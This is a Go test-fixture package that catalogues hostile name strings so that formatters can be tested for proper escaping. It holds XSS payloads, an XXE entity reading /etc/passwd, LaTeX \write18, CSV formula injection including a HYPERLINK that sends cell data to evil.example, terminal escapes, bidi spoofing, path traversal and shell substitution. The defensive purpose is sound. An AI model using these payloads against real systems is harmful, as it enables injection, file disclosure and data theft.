// Package nametest holds names that would do harm where they are not taken for text:
// of models, questions, tasks, files, columns, schemata and titles. Tests give them to
// everything that prints names.
//
// It leaves what each format has to make of them to its checks, which package clitest
// has.
package nametest

import (
	"slices"
	"strings"
	"unicode/utf8"
)

// Name is a name, and what it tries.
type Name struct{ Tries, Text string }

// Hostile are such names, all different.
func Hostile() []Name {
	return slices.Concat(pages, markdown, latex, spreadsheets, terminals, readers, files, harmless)
}

// The names, by whom they would harm.
var (
	pages = []Name{
		{"a script", `<script>alert(1)</script>`},
		{"to end a script", `</script><script>alert(2)</script>`},
		{"to hide a script", `<!--<script>-->`},
		{"to end a title", `</title></style></desc></textarea><plaintext>`},
		{"to end an attribute", `"><img src=x onerror=alert(3)>`},
		{"an attribute", `' onmouseover='alert(4)' x="y" onfocus="alert(5)`},
		{"to end CDATA", `]]></script><svg onload=alert(6)>`},
		{"to leave a drawing", `</text></g></svg><foreignObject><iframe src=//evil.example>`},
		{"entities", `&lt;b&gt; &#x3c;i&#62; &amp;amp; &quot;`},
		{"a declaration", `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`},
		{"to change the page", `<base href=//evil.example><meta http-equiv=refresh content=0>`},
		{"a scheme", `javascript:alert(7)`},
		{"a page as an address", `data:text/html,<script>alert(8)</script>`},
		{"a template", "{{.}} ${alert(9)} `alert(10)` <%= 1 %>"},
		{"style", `x;}*{background:url(//evil.example)}`},
	}

	markdown = []Name{
		{"a link", `[a](javascript:alert(11)) ![b](http://evil.example/b.png)`},
		{"a definition", `[a]: http://evil.example "b"`},
		{"links without marks", `http://evil.example www.evil.example a@evil.example @octocat #1 :smile:`},
		{"an autolink", `<http://evil.example> <a@evil.example>`},
		{"emphasis", "**b** __b__ _i_ ~~s~~ $m$ \\*e\\*"},
		{"code", "`a` ``b`` ```c ~~~"},
		{"blocks", "# h\n\n- i\n1. j\n> q\n\n    code\n---\n"},
		{"HTML in Markdown", `<details open ontoggle=alert(12)><summary>`},
		{"cells", `a|b||c\|d\\|e`},
	}

	latex = []Name{
		{"commands", `\input{/etc/passwd}\write18{id}\def\x{y}`},
		{"special characters", `$ % & _ # ~ ^ { } \ < > |`},
		{"to leave a table", `}\end{tabular}\\[1cm]{%`},
		{"a row", `a & b \\ \hline`},
		{"an option", `[1cm] *`},
		{"ligatures", "-- --- ''a'' ``b`` ,, ?` !`"},
	}

	spreadsheets = []Name{
		{"a formula", `=HYPERLINK("http://evil.example?"&A1,"x")`},
		{"a sum", `+1+cmd|' /C calc'!A0`},
		{"a difference", `-2+3+cmd|' /C calc'!A0`},
		{"a function", `@SUM(1+1)*cmd|' /C calc'!A0`},
		{"a formula behind a tab", "\t=1+1"},
		{"a formula behind a return", "\r=1+1"},
		{"a formula on a line of its own", "a\n=1+1"},
		{"a formula behind a blank", " =1+2"},
		{"a formula in another cell", `a;=1+1;b`},
		{"a formula of full width", "＝1＋1"},
		{"an end of quotes", `a","=1+1","b`},
	}

	terminals = []Name{
		{"colour", "\x1b[31mred\x1b[0m"},
		{"a title", "\x1b]0;owned\a"},
		{"a link on a terminal", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\"},
		{"to clear the screen", "\x1b[2J\x1b[H"},
		{"controls of 8 bits", "a\u009b31mb\u0085c\u0090d"},
		{"bells and deletions", "a\a\b\b\x7f"},
		{"to go back", "good\rbad"},
		{"NUL", "a\x00b"},
	}

	readers = []Name{
		{"to turn around", "a\u202egpj.exe\u202c"},
		{"isolates", "\u2066a\u2067b\u2068c\u2069"},
		{"marks of direction", "a\u200eb\u200fc\u061cd"},
		{"invisible characters", "a\u200bb\u2060c\ufeffd\u00ade\u180ef"},
		{"joiners", "a\u200cb\u200dc"},
		{"tags", "a\U000e0001\U000e0061b"},
		{"lines", "one\ntwo\r\nthree\u2028four\u2029five\vsix\fseven"},
		{"what is no UTF-8", "a\xffb\xc0\xafc\xed\xa0\x80d\xf5"},
		{"no characters", "a\ufffeb\U0010ffffc"},
		{"private characters", "\ue000a\ue001b\uf8ff"},
		{"length", strings.Repeat("long", 600)},
		{"length in words", strings.Repeat("more words ", 200) + "."},
	}

	files = []Name{
		{"another folder", "../../../../etc/passwd"},
		{"a root", "/etc/passwd"},
		{"another folder of Windows", `..\..\x`},
		{"a device", "CON"},
		{"a device with a type", "nul.txt"},
		{"a folder", ".."},
		{"a home", "~/.ssh/id"},
		{"a shell", "$(id) `id`;id|id&&id>x"},
		{"a flag", "--out=x"},
		{"a file by a sign", "@/etc/passwd"},
		{"a format", "%s%n%!d(MISSING)"},
	}

	// harmless means no harm, in scripts of its own.
	harmless = []Name{
		{"nothing, in scripts of its own", "模型 Ω é 🤖👩\u200d🚀 नमस्ते क्\u200dष مرحبا"},
	}
)

// Texts are the names alone.
func Texts() []string {
	var all []string
	for _, n := range Hostile() {
		all = append(all, n.Text)
	}
	return all
}

// Readable are the names that files may hold: readers refuse what is no UTF-8.
func Readable() []string {
	return slices.DeleteFunc(Texts(), func(s string) bool { return !utf8.ValidString(s) })
}
